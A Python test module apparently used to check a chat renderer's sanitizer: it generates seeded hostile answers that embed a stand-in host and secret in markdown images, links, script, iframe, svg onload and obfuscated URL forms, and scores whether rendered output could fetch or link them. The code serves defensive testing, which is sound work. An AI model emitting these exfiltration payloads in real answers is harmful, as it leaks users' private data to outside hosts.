"""A seeded generator of answers that try to make a renderer fetch or link something, and the judge of what came out."""

from __future__ import annotations

import html
import random
import re
from collections.abc import Iterator

from markdown_it import MarkdownIt

HOST = "evil.example"
_SECRET = "salary-23-days"
_URLS = [
    "https://{h}/x?d={s}", "http://{h}/{s}.png", "//{h}/{s}", "HTTPS://{h}/{s}", "https:\\\\{h}\\{s}", "www.{h}/{s}", "{h}/x?d={s}", "{s}.{h}",
    "ftp://{h}/{s}", "mailto:{s}@{h}", "{s}@{h}", "javascript:fetch('//{h}/{s}')", "data:text/html,<img src=//{h}/{s}>", "https://user:{s}@{h}/",
    "ht\u200btps://{h}/{s}", "https&colon;//{h}/{s}", "&#104;ttps://{h}/{s}", "https://{h}:8443/{s}#a", "tel:+49-{s}", "https://{h}/%2e%2e/{s}",
]  # fmt: skip
_FORMS = [
    "![a]({u})", "![a]( {u} \"t\")", "![]({u})", "[see here]({u})", "[a [b] c]({u})", "[x][k]\n\n[k]: {u}", "![x][k]\n\n[k]: <{u}> 'title'", "[1]: {u}",
    "[1]({u})", "[1][k]\n\n[k]: {u}", "[k]\n\n[k]:\n{u}", "<{u}>", "<img src='{u}'>", "<img/src={u}>", "<a href=\"{u}\">x</a>", "<script>fetch('{u}')</script>",
    "<iframe src={u}></iframe>", "<svg onload=fetch('{u}')>", "<img src=x onerror=\"location='{u}'\">", "<style>@import '{u}';</style>", "<link rel=x href={u}>",
    "<!-- {u} -->", "{u}", "`{u}`", "**{u}**", "see:{u}", "({u})", "> {u}", "| a |\n|---|\n| ![x]({u}) |", "\\![a]({u})", "!\\[a]({u})", "![a\n\nb]({u})", "[a]\n({u})",
    "&lt;img src='{u}'&gt;", "&lt;a href={u}&gt;x&lt;/a&gt;", "![a](<{u}>)", "[a](\t{u}\t)", "！[a]({u})", "!\u200b[a]({u})", "\x1b]8;;{u}\x07click\x1b]8;;\x07", "```html\n<img src={u}>\n```",
    "![{u}]({u})", "<<img src={u}>script>", "<a\nhref={u}>", "< img src={u} >", "<math><mi xlink:href={u}>", "<base href={u}>", "<form action={u}><button>",
]  # fmt: skip
_AROUND = [
    "23 days {x} [1].",
    "{x}",
    "员工每年有23天年假{x}[1]。",
    "23 days [1]. {x}\n\nMore.",
    "a\n{x}",
    "- {x}\n- b [2]",
    "[1]{x}",
    "年假{x}",
]


def attempts(n: int, seed: int = 5) -> Iterator[tuple[str, list[str]]]:
    """`n` hostile answers, each with the chunks it is streamed in."""
    rng = random.Random(seed)
    for i in range(n):
        url = _URLS[i % len(_URLS)].format(h=HOST, s=_SECRET)
        form = _FORMS[(i // len(_URLS)) % len(_FORMS)]
        text = rng.choice(_AROUND).format(x=form.replace("{u}", url))
        if rng.random() < 0.15:
            text = "".join(c + ("\u200d" if rng.random() < 0.1 else "") for c in text)
        if rng.random() < 0.1:
            text = html.escape(text)
        cuts = sorted(rng.sample(range(1, max(len(text), 2)), k=min(rng.randint(0, 12), max(len(text) - 1, 0))))
        if rng.random() < 0.3:
            cuts = list(range(1, len(text)))  # a character at a time
        yield text, [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


def leaks(shown: str) -> list[str]:
    """What of `shown` a renderer could fetch, link or hide; empty when it is harmless."""
    found = []
    for linkify in (False, True):
        rendered = (
            MarkdownIt("commonmark" if not linkify else "default", {"html": True, "linkify": linkify})
            .enable(["linkify"] if linkify else [])
            .render(shown)
        )
        found += re.findall(
            r"<(?:a|img|script|iframe|svg|style|form|base|link|math)\b[^>]*>|<\w[^>]*\s(?:href|src|action|on\w+)\s*=[^>]*>",
            rendered,
        )
    if HOST in re.sub(r"`[^`]*`", "", shown):
        found.append(HOST)
    found += [repr(c) for c in shown if c in "<>\x1b\u200b\u200d\u202e"]
    return found
